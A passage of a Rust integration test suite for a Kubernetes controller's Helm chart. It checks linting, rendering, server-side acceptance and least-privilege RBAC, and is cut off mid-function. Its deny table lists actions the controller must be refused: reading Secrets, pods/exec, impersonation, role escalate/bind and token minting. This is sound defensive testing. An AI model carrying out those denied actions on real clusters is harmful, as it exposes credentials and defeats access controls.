//! The Helm chart (`charts/imageimport`): its CRD is the one in `crds/`, it lints (also
//! `--strict`), renders, every rendered object is accepted by a real kube-apiserver (server-side
//! dry-run), the controller's ServiceAccount holds exactly the permissions it needs and nothing
//! more (no Secrets; Pods only listed), and the controller itself, run with the Deployment's
//! arguments and authenticated as that ServiceAccount, creates worker Jobs without a single RBAC
//! refusal.
//!
//! `helm` is `$IMAGEIMPORT_TESTBIN_DIR/helm` (default `~/.cache/imageimport/testbin/helm`, built
//! by `hack/build-test-bins.sh`); without it these tests fail, they never skip.

mod support;

use std::collections::BTreeSet;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use k8s_openapi::api::authorization::v1::{
    ResourceAttributes, SelfSubjectAccessReview, SelfSubjectAccessReviewSpec,
};
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::coordination::v1::Lease;
use k8s_openapi::api::core::v1::{PersistentVolumeClaim, Secret, ServiceAccount};
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use kube::api::{
    Api, ApiResource, DynamicObject, GroupVersionKind, ListParams, Patch, PatchParams, PostParams,
    ValidationDirective,
};
use kube::discovery::{Scope, pinned_kind};
use kube::{Client, ResourceExt};
use serde::Deserialize as _;
use serde_json::{Value, json};
use support::kube::{ApiServer, testbin_dir};

const CHART: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/charts/imageimport");
const CHART_CRD: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/charts/imageimport/crds/imageimport.dev_imageimports.yaml"
);
const CRD: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/crds/imageimport.dev_imageimports.yaml"
);
const RELEASE: &str = "imageimport";
const RELEASE_NS: &str = "imageimport-system";
/// Names the chart gives the release `imageimport`.
const CONTROLLER_SA: &str = "imageimport-controller";
const WORKER_SA: &str = "imageimport-worker";
/// The controller's leader-election Lease (`--leader-election-lease` default).
const LEASE: &str = "imageimport-controller";

// ----- helm -----

fn helm_bin() -> PathBuf {
    let path = testbin_dir().join("helm");
    if !path.is_file() {
        panic!(
            "{} not found (IMAGEIMPORT_TESTBIN_DIR={:?}): run hack/build-test-bins.sh",
            path.display(),
            std::env::var_os("IMAGEIMPORT_TESTBIN_DIR")
        );
    }
    path
}

/// Runs helm with its config, cache and data in a private temp dir; returns (success, stdout,
/// stderr).
fn helm_output(args: &[&str]) -> (bool, String, String) {
    let home = tempfile::tempdir().unwrap();
    let out = Command::new(helm_bin())
        .args(args)
        .env("HELM_CONFIG_HOME", home.path().join("config"))
        .env("HELM_CACHE_HOME", home.path().join("cache"))
        .env("HELM_DATA_HOME", home.path().join("data"))
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("run helm {args:?}: {e}"));
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn helm(args: &[&str]) -> String {
    let (ok, stdout, stderr) = helm_output(args);
    assert!(ok, "helm {args:?} failed:\n{stdout}\n{stderr}");
    stdout
}

/// `helm template` of the release `imageimport` in `imageimport-system` with extra flags
/// (`--set …`, `--include-crds`); the rendered documents.
fn render(extra: &[&str]) -> Vec<Value> {
    let mut args = vec!["template", RELEASE, CHART, "--namespace", RELEASE_NS];
    args.extend_from_slice(extra);
    parse_documents(&helm(&args))
}

/// `helm template` that must fail; its error output.
fn render_fails(extra: &[&str]) -> String {
    let mut args = vec!["template", RELEASE, CHART, "--namespace", RELEASE_NS];
    args.extend_from_slice(extra);
    let (ok, stdout, stderr) = helm_output(&args);
    assert!(!ok, "helm {args:?} should fail, rendered:\n{stdout}");
    stderr
}

fn parse_documents(yaml: &str) -> Vec<Value> {
    serde_yaml::Deserializer::from_str(yaml)
        .map(|doc| Value::deserialize(doc).unwrap_or_else(|e| panic!("rendered YAML: {e}")))
        .filter(|v| !v.is_null())
        .collect()
}

fn kinds(objects: &[Value]) -> BTreeSet<String> {
    objects
        .iter()
        .map(|o| o["kind"].as_str().unwrap().to_string())
        .collect()
}

fn find<'a>(objects: &'a [Value], kind: &str) -> &'a Value {
    let found: Vec<&Value> = objects.iter().filter(|o| o["kind"] == kind).collect();
    assert_eq!(found.len(), 1, "exactly one {kind} expected: {objects:#?}");
    found[0]
}

fn container(objects: &[Value]) -> &Value {
    let containers = &find(objects, "Deployment")["spec"]["template"]["spec"]["containers"];
    assert_eq!(containers.as_array().unwrap().len(), 1);
    &containers[0]
}

fn args(objects: &[Value]) -> Vec<String> {
    container(objects)["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap().to_string())
        .collect()
}

fn env_value(objects: &[Value], name: &str) -> Option<String> {
    container(objects)["env"]
        .as_array()?
        .iter()
        .find(|e| e["name"] == name)
        .and_then(|e| e["value"].as_str().map(str::to_string))
}

// ----- the controller binary -----

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_imageimport")
}

/// Whether this build of the controller has `--leader-elect` (the chart passes it when
/// `leaderElection.enabled`, the default).
fn controller_has_leader_election() -> bool {
    let out = Command::new(bin())
        .args(["controller", "--help"])
        .output()
        .unwrap();
    assert!(out.status.success(), "imageimport controller --help failed");
    String::from_utf8_lossy(&out.stdout).contains("--leader-elect")
}

/// `--set leaderElection.enabled=…` matching what the binary supports.
fn leader_election_set() -> &'static str {
    if controller_has_leader_election() {
        "leaderElection.enabled=true"
    } else {
        "leaderElection.enabled=false"
    }
}

// ----- tests without a cluster -----

#[test]
fn chart_crd_is_a_copy_of_crds_dir() {
    let chart = std::fs::read_to_string(CHART_CRD).unwrap();
    let source = std::fs::read_to_string(CRD).unwrap();
    assert!(
        chart == source,
        "charts/imageimport/crds/imageimport.dev_imageimports.yaml is stale: run \
         `cp crds/imageimport.dev_imageimports.yaml charts/imageimport/crds/`"
    );
    let chart_yaml = std::fs::read_to_string(format!("{CHART}/Chart.yaml")).unwrap();
    let chart_yaml: Value = serde_yaml::from_str(&chart_yaml).unwrap();
    assert_eq!(
        chart_yaml["appVersion"].as_str(),
        Some(env!("CARGO_PKG_VERSION")),
        "Chart.yaml appVersion must be Cargo.toml's version"
    );
}

#[test]
fn chart_lints() {
    for strict in [false, true] {
        let mut args = vec!["lint", CHART];
        if strict {
            args.push("--strict");
        }
        let out = helm(&args);
        assert!(out.contains("0 chart(s) failed"), "{out}");
        assert!(
            !out.contains("[WARNING]") && !out.contains("[ERROR]"),
            "{out}"
        );
    }
    // Also with every optional part switched on.
    let out = helm(&[
        "lint",
        CHART,
        "--strict",
        "--set",
        "metrics.serviceMonitor.enabled=true,controller.worker.cpuLimit=2,leaderElection.enabled=false",
    ]);
    assert!(out.contains("0 chart(s) failed"), "{out}");
}

#[test]
fn chart_renders_and_values_reach_the_controller() {
    let objects = render(&[]);
    assert_eq!(
        kinds(&objects),
        [
            "ClusterRole",
            "ClusterRoleBinding",
            "Deployment",
            "Role",
            "RoleBinding",
            "Service",
            "ServiceAccount",
            "ValidatingAdmissionPolicy",
            "ValidatingAdmissionPolicyBinding",
        ]
        .into_iter()
        .map(String::from)
        .collect(),
        "no ServiceMonitor (nor anything else) by default"
    );
    for o in &objects {
        assert_eq!(
            o["metadata"]["labels"]["app.kubernetes.io/instance"],
            RELEASE
        );
        if !matches!(
            o["kind"].as_str(),
            Some(
                "ClusterRole"
                    | "ClusterRoleBinding"
                    | "ValidatingAdmissionPolicy"
                    | "ValidatingAdmissionPolicyBinding"
            )
        ) {
            assert_eq!(o["metadata"]["namespace"], RELEASE_NS, "{o:#}");
        }
    }
    assert!(
        !helm(&["template", RELEASE, CHART]).contains("CustomResourceDefinition"),
        "the CRD comes from crds/ (installed first by helm install), not from templates"
    );
    let with_crds = render(&["--include-crds"]);
    assert_eq!(
        find(&with_crds, "CustomResourceDefinition")["metadata"]["name"],
        "imageimports.imageimport.dev"
    );

    // The Deployment: the chart's image, the controller flags, hardening, probes.
    let deploy = find(&objects, "Deployment");
    let pod = &deploy["spec"]["template"]["spec"];
    assert_eq!(deploy["spec"]["replicas"], 1);
    assert_eq!(pod["serviceAccountName"], CONTROLLER_SA);
    let c = container(&objects);
    assert_eq!(c["image"], "ghcr.io/imageimport/imageimport:0.1.0");
    assert_eq!(
        args(&objects),
        [
            "controller",
            "--worker-image=ghcr.io/imageimport/imageimport:0.1.0",
            "--worker-image-pull-policy=IfNotPresent",
            "--worker-service-account=imageimport-worker",
            "--max-concurrent-imports=4",
            "--worker-cpu-request=500m",
            "--worker-memory-request=64Mi",
            "--worker-memory-limit=256Mi",
            "--worker-deadline-seconds=21600",
            "--worker-ttl-seconds=86400",
            "--max-attempts=8",
            "--metrics-bind-address=0.0.0.0:8080",
            "--leader-elect",
            "--lease-duration-seconds=15",
        ]
    );
    // Worker Pod settings travel as one JSON flag, which the binary parses.
    let with_pod = render(&[
        "--set",
        "controller.worker.pod.nodeSelector.pool=imports,controller.worker.pod.priorityClassName=batch",
        "--set-string",
        "controller.worker.pod.annotations.sidecar\\.istio\\.io/inject=false",
        "--set",
        "controller.worker.pod.env[0].name=HTTPS_PROXY,controller.worker.pod.env[0].value=http://proxy:3128",
    ]);
    let pod_arg = args(&with_pod)
        .into_iter()
        .find_map(|a| a.strip_prefix("--worker-pod=").map(str::to_string))
        .expect("--worker-pod");
    let parsed: Value = serde_json::from_str(&pod_arg).unwrap();
    assert_eq!(parsed["nodeSelector"]["pool"], "imports");
    assert_eq!(parsed["annotations"]["sidecar.istio.io/inject"], "false");
    assert_eq!(parsed["env"][0]["name"], "HTTPS_PROXY");
    let mut flags = args(&with_pod);
    flags.push("--help".into());
    let out = Command::new(bin()).args(&flags).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        render_fails(&[
            "--set",
            "controller.worker.pod.env[0].name=IMAGEIMPORT_SPEC"
        ])
        .contains("/controller/worker/pod/env/0/name"),
        "the worker's own inputs cannot be overridden"
    );
    assert_eq!(
        env_value(&objects, "IMAGEIMPORT_LOG_FORMAT").as_deref(),
        Some("text")
    );
    assert_eq!(pod["securityContext"]["runAsNonRoot"], true);
    assert_eq!(pod["securityContext"]["runAsUser"], 65532);
    assert_eq!(
        pod["securityContext"]["seccompProfile"]["type"],
        "RuntimeDefault"
    );
    let sc = &c["securityContext"];
    assert_eq!(sc["readOnlyRootFilesystem"], true);
    assert_eq!(sc["allowPrivilegeEscalation"], false);
    assert_eq!(sc["capabilities"]["drop"], json!(["ALL"]));
    assert_eq!(sc["seccompProfile"]["type"], "RuntimeDefault");
    assert_eq!(c["ports"][0]["name"], "http");
    assert_eq!(c["ports"][0]["containerPort"], 8080);
    assert_eq!(
        c["livenessProbe"]["httpGet"],
        json!({"path": "/healthz", "port": "http"})
    );
    assert_eq!(
        c["readinessProbe"]["httpGet"],
        json!({"path": "/readyz", "port": "http"})
    );
    let svc = find(&objects, "Service");
    assert_eq!(svc["spec"]["ports"][0]["targetPort"], "http");
    assert_eq!(
        svc["spec"]["selector"],
        deploy["spec"]["selector"]["matchLabels"]
    );

    // Every setting reaches its flag.
    let custom = render(&[
        "--set",
        "image.repository=registry.internal/imageimport,image.tag=dev,image.pullPolicy=Always",
        "--set",
        "controller.workerServiceAccount=importer,controller.maxConcurrentImports=9",
        "--set",
        "controller.worker.cpuRequest=1,controller.worker.cpuLimit=3,controller.worker.memoryRequest=100Mi",
        "--set",
        "controller.worker.memoryLimit=1Gi,controller.worker.deadlineSeconds=600",
        "--set",
        "leaderElection.enabled=false,probes.enabled=false,logFormat=json,metrics.port=9090",
    ]);
    assert_eq!(
        args(&custom),
        [
            "controller",
            "--worker-image=registry.internal/imageimport:dev",
            "--worker-image-pull-policy=Always",
            "--worker-service-account=importer",
            "--max-concurrent-imports=9",
            "--worker-cpu-request=1",
            "--worker-cpu-limit=3",
            "--worker-memory-request=100Mi",
            "--worker-memory-limit=1Gi",
            "--worker-deadline-seconds=600",
            "--worker-ttl-seconds=86400",
            "--max-attempts=8",
            "--metrics-bind-address=0.0.0.0:9090",
        ]
    );
    let c = container(&custom);
    assert_eq!(c["image"], "registry.internal/imageimport:dev");
    assert!(c.get("livenessProbe").is_none() && c.get("readinessProbe").is_none());
    assert_eq!(c["ports"][0]["containerPort"], 9090);
    assert_eq!(
        env_value(&custom, "IMAGEIMPORT_LOG_FORMAT").as_deref(),
        Some("json")
    );
    assert_eq!(
        find(&custom, "Deployment")["spec"]["strategy"]["type"],
        "Recreate",
        "without leader election two controllers never overlap"
    );
    // The ClusterRole follows the worker ServiceAccount's name.
    let names: Vec<&Value> = find(&custom, "ClusterRole")["rules"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r.get("resourceNames"))
        .collect();
    assert_eq!(names, [&json!(["importer"]), &json!(["importer"])]);
    let worker_image = render(&["--set", "controller.workerImage=other/worker:1"]);
    assert!(args(&worker_image).contains(&"--worker-image=other/worker:1".to_string()));

    // The ServiceMonitor only when asked for (its CRD is prometheus-operator's).
    let monitored = render(&["--set", "metrics.serviceMonitor.enabled=true"]);
    let sm = find(&monitored, "ServiceMonitor");
    assert_eq!(sm["apiVersion"], "monitoring.coreos.com/v1");
    assert_eq!(sm["spec"]["endpoints"][0]["port"], "http");
    assert_eq!(sm["spec"]["endpoints"][0]["path"], "/metrics");
    assert_eq!(
        sm["spec"]["selector"]["matchLabels"],
        find(&monitored, "Deployment")["spec"]["selector"]["matchLabels"]
    );

    // Combinations that would install something broken are refused.
    let err = render_fails(&["--set", "replicas=2,leaderElection.enabled=false"]);
    assert!(err.contains("leaderElection"), "{err}");
    // A policy becomes a ConfigMap mounted into the controller, and the flag that reads it.
    let with_policy = render(&[
        "--set",
        "policy.rules[0].namespaces[0]=shop,policy.rules[0].repositories[0]=registry.internal/shop/*",
    ]);
    let cm = find(&with_policy, "ConfigMap");
    let policy_yaml = cm["data"]["policy.yaml"].as_str().unwrap();
    let parsed: serde_json::Value = serde_yaml::from_str(policy_yaml).unwrap();
    assert_eq!(
        parsed["rules"][0]["repositories"][0],
        "registry.internal/shop/*"
    );
    let policy_args = args(&with_policy).join(" ");
    assert!(
        policy_args.contains("--policy-file=/etc/imageimport/policy/policy.yaml"),
        "{policy_args}"
    );
    let err = render_fails(&["--set", "logFormat=xml"]);
    assert!(err.contains("logFormat"), "{err}");
    let err = render_fails(&["--set", "controler.maxConcurrentImports=1"]);
    assert!(
        err.contains("controler"),
        "a misspelt value is an error: {err}"
    );

    // The binary accepts every flag the Deployment passes.
    let mut flags = args(&render(&["--set", leader_election_set()]));
    flags.push("--help".into());
    let out = Command::new(bin()).args(&flags).output().unwrap();
    assert!(
        out.status.success(),
        "imageimport {flags:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The upload service as `hack/cluster.sh` installs it: a hostPort, the URLs users and workers
/// are given, and the policy mounted so the console can offer its repositories; the binary
/// takes the flags its Deployment passes.
#[test]
fn chart_upload_service_values_reach_its_pod_and_the_controller() {
    let objects = render(&[
        "--set",
        "upload.enabled=true,upload.hostPort=30080,upload.internalUrl=http://192.0.2.2:30080/",
        "--set",
        "policy.rules[0].namespaces[0]=shop,policy.rules[0].repositories[0]=registry.internal/shop/*",
    ]);
    let deployments: Vec<&Value> = objects
        .iter()
        .filter(|o| o["kind"] == "Deployment")
        .collect();
    let upload = deployments
        .iter()
        .find(|d| d["metadata"]["name"].as_str().unwrap().ends_with("-upload"))
        .expect("the upload Deployment");
    let pod = &upload["spec"]["template"]["spec"];
    let c = &pod["containers"][0];
    assert_eq!(c["ports"][0]["hostPort"], 30080, "{c}");
    let upload_args: Vec<String> = c["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap().to_string())
        .collect();
    assert!(
        upload_args.contains(&"--policy-file=/etc/imageimport/policy/policy.yaml".to_string()),
        "{upload_args:?}"
    );
    assert_eq!(c["volumeMounts"][0]["mountPath"], "/etc/imageimport/policy");
    assert!(
        pod["volumes"][0]["configMap"]["name"]
            .as_str()
            .unwrap()
            .ends_with("-policy")
    );
    // Without upload.url, users are given the workers' address too.
    let controller = deployments
        .iter()
        .find(|d| {
            d["metadata"]["name"]
                .as_str()
                .unwrap()
                .ends_with("-controller")
        })
        .expect("the controller Deployment");
    let ctl: Vec<String> = controller["spec"]["template"]["spec"]["containers"][0]["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap().to_string())
        .collect();
    for flag in [
        "--upload-url=http://192.0.2.2:30080",
        "--upload-internal-url=http://192.0.2.2:30080",
    ] {
        assert!(ctl.iter().any(|a| a == flag), "{flag} in {ctl:?}");
    }
    let mut flags = upload_args;
    flags.push("--help".into());
    let out = Command::new(bin()).args(&flags).output().unwrap();
    assert!(
        out.status.success(),
        "imageimport {flags:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Without a hostPort none is set (a Pod with a hostPort is bound to its node's port).
    let plain = render(&["--set", "upload.enabled=true"]);
    assert!(!serde_json::to_string(&plain).unwrap().contains("hostPort"));
}

// ----- on a real API server -----

/// Apply (server-side, as `helm`, optionally dry-run) one rendered object; the API's verdict.
async fn apply_object(client: &Client, obj: &Value, dry_run: bool) -> Result<(), String> {
    let api_version = obj["apiVersion"].as_str().unwrap();
    let kind = obj["kind"].as_str().unwrap();
    let name = obj["metadata"]["name"].as_str().unwrap();
    let (group, version) = api_version.split_once('/').unwrap_or(("", api_version));
    let gvk = GroupVersionKind::gvk(group, version, kind);
    let (resource, caps) = pinned_kind(client, &gvk)
        .await
        .map_err(|e| format!("{kind} {name}: discovery: {e}"))?;
    let api: Api<DynamicObject> = match caps.scope {
        Scope::Namespaced => Api::namespaced_with(
            client.clone(),
            obj["metadata"]["namespace"]
                .as_str()
                .ok_or_else(|| format!("{kind} {name} has no namespace"))?,
            &resource,
        ),
        Scope::Cluster => Api::all_with(client.clone(), &resource),
    };
    // Strict: an unknown or misplaced field is an error, not a warning.
    let mut pp = PatchParams::apply("helm").validation(ValidationDirective::Strict);
    if dry_run {
        pp = pp.dry_run();
    }
    api.patch(name, &pp, &Patch::Apply(obj))
        .await
        .map(|_| ())
        .map_err(|e| format!("{kind} {name}: {e}"))
}

/// The chart's CRD applied, the release namespace created.
async fn cluster() -> ApiServer {
    let api = ApiServer::start();
    api.apply_crd_yaml(&std::fs::read_to_string(CHART_CRD).unwrap())
        .await;
    api.create_namespace(RELEASE_NS).await;
    api
}

/// The chart's ServiceAccount and RBAC objects created for real.
async fn install_rbac(api: &ApiServer, objects: &[Value]) {
    let client = api.client().await;
    for o in objects.iter().filter(|o| {
        matches!(
            o["kind"].as_str(),
            Some("ServiceAccount" | "ClusterRole" | "ClusterRoleBinding" | "Role" | "RoleBinding")
        )
    }) {
        apply_object(&client, o, false).await.unwrap();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_rendered_object_is_accepted_by_the_api_server() {
    let api = cluster().await;
    let client = api.client().await;
    let variants: [&[&str]; 3] = [
        &["--include-crds"],
        &[
            "--set",
            "leaderElection.enabled=false,probes.enabled=false,logFormat=json,controller.worker.cpuLimit=2",
            "--set",
            "imagePullSecrets[0].name=pull,priorityClassName=high,nodeSelector.disk=ssd",
            "--set",
            "tolerations[0].key=dedicated,tolerations[0].operator=Exists,podAnnotations.a=b",
            "--set",
            "metrics.service.type=NodePort,serviceAccount.annotations.x=y",
        ],
        &[
            "--set",
            "rbac.create=false,serviceAccount.create=false,serviceAccount.name=existing,metrics.service.enabled=false",
        ],
    ];
    let mut refused = Vec::new();
    let mut accepted = 0;
    for extra in variants {
        for o in render(extra) {
            assert_ne!(o["kind"], "ServiceMonitor");
            match apply_object(&client, &o, true).await {
                Ok(()) => accepted += 1,
                Err(e) => refused.push(format!("{extra:?}: {e}")),
            }
        }
    }
    assert!(
        refused.is_empty(),
        "refused by the API server:\n{}",
        refused.join("\n")
    );
    // + 4: the two admission policies and their bindings.
    assert_eq!(accepted, 12 + 11 + 5, "objects rendered and applied");
    // Dry-run: nothing was created.
    let sas: Api<ServiceAccount> = Api::namespaced(client.clone(), RELEASE_NS);
    assert!(sas.get_opt(CONTROLLER_SA).await.unwrap().is_none());
}

/// `verb group resource[/subresource]` in `namespace` (empty: all namespaces), for `name`.
async fn can(
    client: &Client,
    verb: &str,
    group: &str,
    resource: &str,
    ns: &str,
    name: &str,
) -> bool {
    let (resource, subresource) = match resource.split_once('/') {
        Some((r, s)) => (r, Some(s.to_string())),
        None => (resource, None),
    };
    let review = SelfSubjectAccessReview {
        spec: SelfSubjectAccessReviewSpec {
            resource_attributes: Some(ResourceAttributes {
                verb: Some(verb.into()),
                group: Some(group.into()),
                resource: Some(resource.into()),
                subresource,
                namespace: (!ns.is_empty()).then(|| ns.to_string()),
                name: (!name.is_empty()).then(|| name.to_string()),
                ..Default::default()
            }),
            ..Default::default()
        },
        ..Default::default()
    };
    let answer = Api::<SelfSubjectAccessReview>::all(client.clone())
        .create(&PostParams::default(), &review)
        .await
        .unwrap();
    answer.status.unwrap().allowed
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn controller_service_account_is_least_privilege() {
    let objects = render(&[]);
    // The rules, exactly (docs/operations.md explains each).
    let rules = &find(&objects, "ClusterRole")["rules"];
    assert_eq!(
        rules,
        &json!([
            {"apiGroups": ["imageimport.dev"], "resources": ["imageimports"], "verbs": ["get", "list", "watch"]},
            {"apiGroups": ["imageimport.dev"], "resources": ["imageimports/status"], "verbs": ["patch"]},
            {"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["get", "list", "watch", "create", "delete"]},
            {"apiGroups": [""], "resources": ["pods"], "verbs": ["list"]},
            {"apiGroups": [""], "resources": ["persistentvolumeclaims"], "verbs": ["get"]},
            {"apiGroups": ["events.k8s.io"], "resources": ["events"], "verbs": ["create", "patch"]},
            {"apiGroups": [""], "resources": ["serviceaccounts"], "resourceNames": [WORKER_SA], "verbs": ["create", "patch"]},
            {"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["roles", "rolebindings"], "resourceNames": [WORKER_SA], "verbs": ["create", "patch"]},
        ])
    );
    assert_eq!(
        find(&objects, "Role")["rules"],
        json!([{"apiGroups": ["coordination.k8s.io"], "resources": ["leases"], "verbs": ["get", "create", "patch"]}])
    );
    for o in objects
        .iter()
        .filter(|o| o["kind"] == "ClusterRole" || o["kind"] == "Role")
    {
        for rule in o["rules"].as_array().unwrap() {
            for r in rule["resources"].as_array().unwrap() {
                let r = r.as_str().unwrap();
                assert!(
                    !["*", "secrets", "configmaps", "serviceaccounts/token"].contains(&r),
                    "the chart grants {r}"
                );
                // Pods: listed (a superseded generation's workers), nothing more.
                if r.starts_with("pods") {
                    assert_eq!((r, &rule["verbs"]), ("pods", &json!(["list"])));
                }
            }
            for v in rule["verbs"].as_array().unwrap() {
                let v = v.as_str().unwrap();
                assert!(
                    !["*", "escalate", "bind", "impersonate", "deletecollection"].contains(&v),
                    "the chart grants {v}"
                );
            }
        }
    }

    let api = cluster().await;
    api.create_namespace("shop").await;
    install_rbac(&api, &objects).await;
    let sa = api.service_account_client(RELEASE_NS, CONTROLLER_SA).await;
    let ii = "imageimport.dev";
    let rbac = "rbac.authorization.k8s.io";
    let coord = "coordination.k8s.io";
    let allowed: &[(&str, &str, &str, &str, &str)] = &[
        ("list", ii, "imageimports", "", ""),
        ("watch", ii, "imageimports", "", ""),
        ("get", ii, "imageimports", "shop", "web"),
        ("patch", ii, "imageimports/status", "shop", "web"),
        ("list", "batch", "jobs", "", ""),
        ("watch", "batch", "jobs", "", ""),
        ("get", "batch", "jobs", "shop", "web-g1-a1"),
        ("create", "batch", "jobs", "shop", ""),
        ("delete", "batch", "jobs", "shop", "web-g1-a1"),
        ("list", "", "pods", "shop", ""),
        ("get", "", "persistentvolumeclaims", "shop", "deliveries"),
        ("create", "events.k8s.io", "events", "shop", ""),
        ("patch", "events.k8s.io", "events", "shop", "web.123"),
        ("create", "", "serviceaccounts", "shop", WORKER_SA),
        ("patch", "", "serviceaccounts", "shop", WORKER_SA),
        ("create", rbac, "roles", "shop", WORKER_SA),
        ("patch", rbac, "roles", "shop", WORKER_SA),
        ("create", rbac, "rolebindings", "shop", WORKER_SA),
        ("patch", rbac, "rolebindings", "shop", WORKER_SA),
        ("get", coord, "leases", RELEASE_NS, LEASE),
        ("create", coord, "leases", RELEASE_NS, ""),
        ("patch", coord, "leases", RELEASE_NS, LEASE),
    ];
    let denied: &[(&str, &str, &str, &str, &str)] = &[
        // No Secret, anywhere, by any verb.
        ("get", "", "secrets", "shop", "regcred"),
        ("list", "", "secrets", "shop", ""),
        ("watch", "", "secrets", "shop", ""),
        ("list", "", "secrets", "", ""),
        ("get", "", "secrets", "", ""),
        ("get", "", "secrets", RELEASE_NS, ""),
        ("list", "", "secrets", RELEASE_NS, ""),
        ("create", "", "secrets", "shop", ""),
        // Pods only listed (Jobs make them, the garbage collector deletes them), no ConfigMaps
        // (mounted by the kubelet).
        ("create", "", "pods", "shop", ""),
        ("create", "", "pods", RELEASE_NS, ""),
        ("get", "", "pods", "shop", "web-g1-a1-x7k2p"),
        ("watch", "", "pods", "shop", ""),
        ("update", "", "pods", "shop", "web-g1-a1-x7k2p"),
        ("patch", "", "pods", "shop", "web-g1-a1-x7k2p"),
        ("delete", "", "pods", "shop", "web-g1-a1-x7k2p"),
        ("deletecollection", "", "pods", "shop", ""),
        ("get", "", "pods/log", "shop", "web-g1-a1-x7k2p"),
        ("create", "", "pods/exec", "shop", "web-g1-a1-x7k2p"),
        ("create", "", "pods/eviction", "shop", "web-g1-a1-x7k2p"),
        ("get", "", "configmaps", "shop", "ca"),
        // ImageImports belong to their owners: the controller writes only status.
        ("create", ii, "imageimports", "shop", ""),
        ("update", ii, "imageimports", "shop", "web"),
        ("patch", ii, "imageimports", "shop", "web"),
        ("delete", ii, "imageimports", "shop", "web"),
        ("update", ii, "imageimports/status", "shop", "web"),
        ("get", ii, "imageimports/status", "shop", "web"),
        ("update", "batch", "jobs", "shop", "web-g1-a1"),
        ("patch", "batch", "jobs", "shop", "web-g1-a1"),
        ("deletecollection", "batch", "jobs", "shop", ""),
        ("list", "", "persistentvolumeclaims", "shop", ""),
        ("create", "", "persistentvolumeclaims", "shop", ""),
        ("create", "", "events", "shop", ""),
        // The worker identity only, and no token minting for it.
        ("get", "", "serviceaccounts", "shop", WORKER_SA),
        ("create", "", "serviceaccounts", "shop", "other"),
        ("patch", "", "serviceaccounts", "shop", "default"),
        ("create", "", "serviceaccounts/token", "shop", WORKER_SA),
        ("create", rbac, "roles", "shop", "admin"),
        ("patch", rbac, "rolebindings", "shop", "other"),
        ("delete", rbac, "roles", "shop", WORKER_SA),
        ("escalate", rbac, "roles", "shop", WORKER_SA),
        ("bind", rbac, "roles", "shop", WORKER_SA),
        ("bind", rbac, "clusterroles", "", "cluster-admin"),
        ("create", rbac, "clusterroles", "", ""),
        ("create", rbac, "clusterrolebindings", "", ""),
        ("impersonate", "", "serviceaccounts", "shop", WORKER_SA),
        ("impersonate", "", "users", "", "admin"),
        // Leases only in the release namespace.
        ("create", coord, "leases", "shop", ""),
        ("update", coord, "leases", RELEASE_NS, LEASE),
        ("delete", coord, "leases", RELEASE_NS, LEASE),
        (
            "create",
            "apiextensions.k8s.io",
            "customresourcedefinitions",
            "",
            "",
        ),
        ("get", "", "nodes", "", ""),
    ];
    let mut wrong = Vec::new();
    for (expect, table) in [(true, allowed), (false, denied)] {
        for &(verb, group, resource, ns, name) in table {
            if can(&sa, verb, group, resource, ns, name).await != expect {
                wrong.push(format!(
                    "{} {verb} {group}/{resource} ns={ns:?} name={name:?}",
                    if expect {
                        "DENIED, needed:"
                    } else {
                        "ALLOWED, must not be:"
                    }
                ));
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "controller ServiceAccount:\n{}",
        wrong.join("\n")
    );

    // And by trying: Secrets are refused outright.
    for ns in ["shop", RELEASE_NS] {
        let secrets: Api<Secret> = Api::namespaced(sa.clone(), ns);
        match secrets.list(&ListParams::default()).await {
            Err(kube::Error::Api(e)) if e.code == 403 => {}
            other => panic!("listing Secrets in {ns} must be forbidden: {other:?}"),
        }
    }
    match Api::<Secret>::all(sa.clone())
        .list(&ListParams::default())
        .await
    {
        Err(kube::Error::Api(e)) if e.code == 403 => {}
        other => panic!("listing all Secrets must be forbidden: {other:?}"),
    }
}

// ----- the controller as the chart's ServiceAccount -----

struct Controller {
    child: Child,
    log: PathBuf,
}

impl Controller {
    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for Controller {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn imageimports(client: &Client, ns: &str) -> Api<DynamicObject> {
    let resource = ApiResource {
        group: "imageimport.dev".into(),
        version: "v1alpha1".into(),
        api_version: "imageimport.dev/v1alpha1".into(),
        kind: "ImageImport".into(),
        plural: "imageimports".into(),
    };
    Api::namespaced_with(client.clone(), ns, &resource)
}

async fn apply_import(client: &Client, ns: &str, name: &str, claim: &str, tags: &[&str]) {
    let manifest = json!({
        "apiVersion": "imageimport.dev/v1alpha1", "kind": "ImageImport",
        "metadata": {"name": name, "namespace": ns},
        "spec": {
            "source": {"pvc": {"claimName": claim, "path": "web/web-1.4.tar"}},
            "target": {"repository": "registry.internal:5000/shop/web", "tags": tags}
        }
    });
    imageimports(client, ns)
        .patch(
            name,
            &PatchParams::apply("test").force(),
            &Patch::Apply(&manifest),
        )
        .await
        .unwrap();
}

async fn create_claim(client: &Client, ns: &str, name: &str) {
    let pvc: PersistentVolumeClaim = serde_json::from_value(json!({
        "metadata": {"name": name},
